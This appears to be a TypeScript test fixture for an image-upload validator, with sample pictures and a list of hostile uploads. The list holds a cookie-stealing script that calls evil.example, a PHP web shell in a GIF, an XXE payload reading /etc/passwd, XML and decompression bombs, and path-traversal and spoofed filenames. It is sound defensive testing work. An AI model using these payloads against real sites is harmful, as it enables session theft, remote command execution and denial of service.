import { randomBytes } from 'node:crypto'
import { crc32, deflateSync } from 'node:zlib'

const base64 = (text: string) => Buffer.from(text, 'base64')
const u16 = (value: number) => Buffer.from([(value >> 8) & 255, value & 255])
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}

const PNG = base64('iVBORw0KGgo=')

/** Good pictures of 16 × 16 pixels. */
export const pictures = {
  jpeg: base64(
    '/9j/2wBDABAQEBAREBIUFBIZGxgbGSUiHx8iJTgoKygrKDhVNT41NT41VUtbSkVKW0uHal5eaoecg3yDnL2pqb3u4u7/////2wBDARAQEBAREBIUFBIZ' +
      'GxgbGSUiHx8iJTgoKygrKDhVNT41NT41VUtbSkVKW0uHal5eaoecg3yDnL2pqb3u4u7/////wgARCAAQABADASIAAhEBAxEB/8QAFQABAQAAAAAA' +
      'AAAAAAAAAAAAAAX/xAAVAQEBAAAAAAAAAAAAAAAAAAADBv/aAAwDAQACEAMQAAAAkgKn/8QAFBABAAAAAAAAAAAAAAAAAAAAIP/aAAgBAQABPwAf' +
      '/8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAgBAgEBPwB//8QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAgBAwEBPwB//9k=',
  ),
  png: png(16, 16),
  webp: base64('UklGRjQAAABXRUJQVlA4ICgAAABwAQCdASoQABAAAsBMJaACdAFAAAD+7L2IwmknR/89M/9gf/JHwsAA'),
  webpLossless: base64('UklGRh4AAABXRUJQVlA4TBEAAAAvD8ADAAdQjyKXp/+BiOh/AAA='),
  gif: base64('R0lGODlhEAAQAIAAAExpccgePCH5BAUAAAAALAAAAAAQABAAAAIOjI+py+0Po5y02ouzPgUAOw=='),
  avif: base64(
    'AAAAHGZ0eXBhdmlmAAAAAG1pZjFhdmlmbWlhZgAAANZtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAACJpbG9jAAAAAERA' +
      'AAEAAQAAAAAA+gABAAAAAAAAACcAAAAjaWluZgAAAAAAAQAAABVpbmZlAgAAAAABAABhdjAxAAAAAA5waXRtAAAAAAABAAAAVmlwcnAAAAA4aXBjbwAA' +
      'AAxhdjFDgSACAAAAABRpc3BlAAAAAAAAABAAAAAQAAAAEHBpeGkAAAAAAwgICAAAABZpcG1hAAAAAAAAAAEAAQOBAgMAAAAvbWRhdBIACgg4DP/aQENB' +
      'pDIZGUJjBMPPPPNBIAB1hofWH3PtEVFRs9NDMA==',
  ),
}

function chunk(type: string, data: Buffer = Buffer.alloc(0)): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data])
  return Buffer.concat([u32(data.length), typed, u32(crc32(typed))])
}

function ihdr(width: number, height: number): Buffer {
  return chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([8, 2, 0, 0, 0])]))
}

/** A PNG of one colour; `pixels` takes the place of its own compressed rows, `extra` comes before them. */
export function png(
  width: number,
  height: number,
  { pixels, extra = [] }: { pixels?: Buffer; extra?: Buffer[] } = {},
): Buffer {
  const rows = pixels ?? deflateSync(Buffer.alloc((width * 3 + 1) * height), { level: 1 })
  return Buffer.concat([PNG, ihdr(width, height), ...extra, chunk('IDAT', rows), chunk('IEND')])
}

/** A GIF whose canvas and frames have sizes of their own. */
function gif(width: number, height: number, { frames = 1, frame = [width, height] as [number, number] } = {}): Buffer {
  const le = (value: number) => Buffer.from([value & 255, (value >> 8) & 255])
  const image = Buffer.concat([
    base64('IfkEBQAAAAAALA=='),
    Buffer.alloc(3),
    le(frame[0]),
    le(frame[1]),
    base64('AAIOjI+py+0Po5y02ouzPgUA'),
  ])
  const header = Buffer.concat([Buffer.from('GIF89a'), le(width), le(height), base64('gAAATGlxyB48')])
  return Buffer.concat([header, ...Array.from({ length: frames }, () => image), Buffer.from(';')])
}

/** The good JPEG with a segment before its others. */
const jpegWith = (...segments: [marker: number, data: Buffer][]): Buffer =>
  Buffer.concat([
    pictures.jpeg.subarray(0, 2),
    ...segments.flatMap(([marker, data]) => [Buffer.from([0xff, marker]), u16(data.length + 2), data]),
    pictures.jpeg.subarray(2),
  ])

/** The good JPEG, saying it has another size. */
function jpegOf(width: number, height: number): Buffer {
  const bytes = Buffer.from(pictures.jpeg)
  const at = bytes.indexOf(Buffer.from([0xff, 0xc2]))
  bytes.writeUInt16BE(height, at + 5)
  bytes.writeUInt16BE(width, at + 7)
  return bytes
}

function webpExtended(width: number, height: number, content: Buffer): Buffer {
  const vp8x = Buffer.alloc(18)
  vp8x.write('VP8X')
  vp8x.writeUInt32LE(10, 4)
  vp8x.writeUIntLE(width - 1, 12, 3)
  vp8x.writeUIntLE(height - 1, 15, 3)
  const body = Buffer.concat([Buffer.from('WEBP'), vp8x, content])
  const size = Buffer.alloc(4)
  size.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from('RIFF'), size, body])
}

function webpLosslessOf(width: number, height: number): Buffer {
  const bytes = Buffer.from(pictures.webpLossless)
  bytes.writeUInt32LE(((height - 1) << 14) | (width - 1), 21)
  return bytes
}

function avifOf(width: number, height: number): Buffer {
  const bytes = Buffer.from(pictures.avif)
  const at = bytes.indexOf('ispe')
  bytes.writeUInt32BE(width, at + 8)
  bytes.writeUInt32BE(height, at + 12)
  return bytes
}

const cut = (bytes: Buffer, share: number) => bytes.subarray(0, Math.floor(bytes.length * share))
const text = (content: string) => Buffer.from(content)
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as Buffer)))

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">${SCRIPT}</svg>`
const BOMB = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'
  .split('')
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghij'[at]};`.repeat(10)}">`)
  .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`
const XXE = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG.replace(SCRIPT, '&x;')}`
const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 1 })
const compressed = (type: string, megabytes: number) => chunk(type, join('name\0\0', zeros(megabytes)))

export interface HostileFile {
  what: string
  bytes: Buffer
  /** What the sender says it is. */
  filename?: string
  type?: string
}

/** What people with bad intentions upload: none of it may run anywhere, or bring anything down. */
export const hostileFiles = (): HostileFile[] => [
  { what: 'GIF that is JavaScript', bytes: text('GIF89a=1;alert(document.domain);//                   ') },
  { what: 'GIF with a script behind it', bytes: join(pictures.gif, SCRIPT) },
  {
    what: 'GIF that is PHP',
    bytes: text('GIF89a<?php system($_GET["c"]); ?>                       '),
    filename: 'a.gif.php',
  },
  { what: 'JPEG with a page behind it', bytes: join(pictures.jpeg, HTML) },
  { what: 'JPEG with a page as comment', bytes: jpegWith([0xfe, text(HTML)]) },
  { what: 'JPEG with a script as EXIF', bytes: jpegWith([0xe1, join('Exif\0\0MM\0*\0\0\0\b', SCRIPT)]) },
  { what: 'JPEG with a script as XMP', bytes: jpegWith([0xe1, join('http://ns.adobe.com/xap/1.0/\0', SVG)]) },
  { what: 'PNG with an archive behind it', bytes: join(pictures.png, base64('UEsDBBQAAAAIAA=='), 'x'.repeat(500)) },
  { what: 'PNG with a script as text', bytes: png(16, 16, { extra: [chunk('tEXt', join('Comment\0', SCRIPT))] }) },
  { what: 'SVG', bytes: text(SVG), filename: 'a.svg', type: 'image/svg+xml' },
  { what: 'SVG named PNG', bytes: text(SVG), filename: 'a.png', type: 'image/png' },
  { what: 'SVG in UTF-16', bytes: join('\ufeff', Buffer.from(SVG, 'utf16le')), filename: 'a.png' },
  { what: 'SVG compressed', bytes: join(base64('H4sIAAAAAAAAAw=='), deflateSync(SVG)), filename: 'a.svgz' },
  { what: 'XML bomb', bytes: text(BOMB), filename: 'a.svg' },
  { what: 'XML with an outer entity', bytes: text(XXE), filename: 'a.svg' },
  { what: 'page named JPEG', bytes: text(HTML), filename: 'a.jpg', type: 'image/jpeg' },
  { what: 'page behind the first bytes of a JPEG', bytes: join(base64('/9j/'), HTML), type: 'text/html' },
  { what: 'page behind the first bytes of a PNG', bytes: join(PNG, HTML), filename: 'a.html' },
  { what: 'page in a RIFF', bytes: join('RIFF\0\0\0\0WEBP', HTML), filename: 'a.webp' },
  { what: 'PNG of 2 billion pixels a side', bytes: png(0x7fffffff, 0x7fffffff, { pixels: zeros(1) }) },
  { what: 'PNG of 100,000 pixels a side', bytes: png(100_000, 100_000, { pixels: zeros(1) }) },
  { what: 'PNG of 12,001 × 1 pixels', bytes: png(12_001, 1) },
  { what: 'PNG of 64 megapixels', bytes: png(8_000, 8_000, { pixels: zeros(1) }) },
  { what: 'PNG of 36 megapixels in half a megabyte', bytes: png(6_000, 6_000) },
  { what: 'PNG without width', bytes: png(0, 16, { pixels: zeros(1) }) },
  { what: 'PNG with a second, larger header', bytes: png(16, 16, { extra: [ihdr(50_000, 50_000)] }) },
  { what: 'PNG whose pixels are 100 MB', bytes: png(16, 16, { pixels: zeros(100) }) },
  { what: 'PNG whose colour profile is 50 MB', bytes: png(16, 16, { extra: [compressed('iCCP', 50)] }) },
  { what: 'PNG whose text is 50 MB', bytes: png(16, 16, { extra: [compressed('zTXt', 50)] }) },
  { what: 'PNG of 4 billion frames', bytes: png(16, 16, { extra: [chunk('acTL', join(u32(0xffffffff), u32(0)))] }) },
  { what: 'PNG whose pixels are noise', bytes: png(16, 16, { pixels: randomBytes(1_000) }) },
  { what: 'JPEG of 65,535 pixels a side', bytes: jpegOf(65_535, 65_535) },
  { what: 'JPEG without height', bytes: jpegOf(16, 0) },
  { what: 'JPEG of 6,000 pixels a side in 400 bytes', bytes: jpegOf(6_000, 6_000) },
  { what: 'JPEG that begins with a megabyte of nothing', bytes: join(base64('/9g='), Buffer.alloc(1_000_000, 0xff)) },
  {
    what: 'JPEG with 3 MB of colour profile',
    bytes: jpegWith(...Array.from({ length: 46 }, (): [number, Buffer] => [0xe2, Buffer.alloc(65_000)])),
  },
  {
    what: 'JPEG with a broken colour profile',
    bytes: jpegWith([0xe2, join('ICC_PROFILE\0\u0001\u0001', 'x'.repeat(9_999))]),
  },
  { what: 'GIF of 65,535 pixels a side', bytes: gif(65_535, 65_535) },
  { what: 'GIF whose frame is larger than it', bytes: gif(1, 1, { frame: [65_000, 65_000] }) },
  { what: 'GIF of 20,000 frames', bytes: gif(1_000, 1_000, { frames: 20_000 }) },
  { what: 'WebP of 16 million pixels a side', bytes: webpExtended(1 << 24, 1 << 24, pictures.webp.subarray(12)) },
  { what: 'WebP of 16,384 pixels a side', bytes: webpLosslessOf(16_384, 16_384) },
  { what: 'WebP larger than it says', bytes: webpExtended(16, 16, webpLosslessOf(16_384, 16_384).subarray(12)) },
  { what: 'AVIF of 4 billion pixels a side', bytes: avifOf(0xffffffff, 0xffffffff) },
  { what: 'AVIF larger than it is', bytes: avifOf(4_000, 4_000) },
  { what: 'AVIF without boxes', bytes: join(pictures.avif.subarray(0, 28), Buffer.alloc(200)) },
  { what: 'HEIC', bytes: join(u32(24), 'ftypheic\0\0\0\0mif1heic', pictures.avif.subarray(28)) },
  { what: 'film', bytes: join(u32(24), 'ftypisom\0\0\0\0isommp41', Buffer.alloc(100)), type: 'image/avif' },
  ...Object.entries(pictures).flatMap(([kind, bytes]) =>
    [0.5, 0.9].map((share) => ({ what: `${kind} cut at ${share * 100} %`, bytes: cut(bytes, share) })),
  ),
  { what: 'nothing', bytes: Buffer.alloc(0) },
  { what: 'one byte', bytes: Buffer.from([0xff]) },
  { what: 'the first bytes of a JPEG', bytes: base64('/9j/') },
  { what: 'the first bytes of a PNG', bytes: PNG },
  { what: 'noise', bytes: randomBytes(10_000), filename: 'a.png', type: 'image/png' },
  { what: 'noise behind the first bytes of an AVIF', bytes: join(pictures.avif.subarray(0, 28), randomBytes(5_000)) },
  {
    what: 'PDF',
    bytes: text('%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'),
    type: 'image/png',
  },
  { what: 'archive', bytes: join('PK\u0003\u0004', Buffer.alloc(100)), filename: 'a.jpg' },
  { what: 'program for Windows', bytes: join('MZ', Buffer.alloc(100)), filename: 'a.jpg.exe' },
  { what: 'program for Linux', bytes: join('\u007fELF', Buffer.alloc(100)), filename: 'a.png' },
  { what: 'TIFF', bytes: join('II*\0', Buffer.alloc(100)), type: 'image/tiff' },
  { what: 'BMP', bytes: join('BM', Buffer.alloc(100)), type: 'image/bmp' },
  { what: 'picture that leads elsewhere', bytes: pictures.png, filename: '../../../../etc/cron.d/shop' },
  { what: 'picture for Windows’ folders', bytes: pictures.png, filename: 'C:\\Windows\\System32\\a.png' },
  { what: 'picture with NUL in its name', bytes: pictures.png, filename: 'a.php\0.png' },
  { what: 'picture with two endings', bytes: pictures.jpeg, filename: 'a.php.jpg' },
  { what: 'picture whose name turns round', bytes: pictures.jpeg, filename: 'a\u202egnp.exe' },
  { what: 'picture with a name of 5,000 letters', bytes: pictures.gif, filename: `${'a'.repeat(5_000)}.gif` },
  { what: 'picture declared to be a page', bytes: pictures.png, type: 'text/html' },
  { what: 'picture declared to be SVG', bytes: pictures.webp, type: 'image/svg+xml' },
]
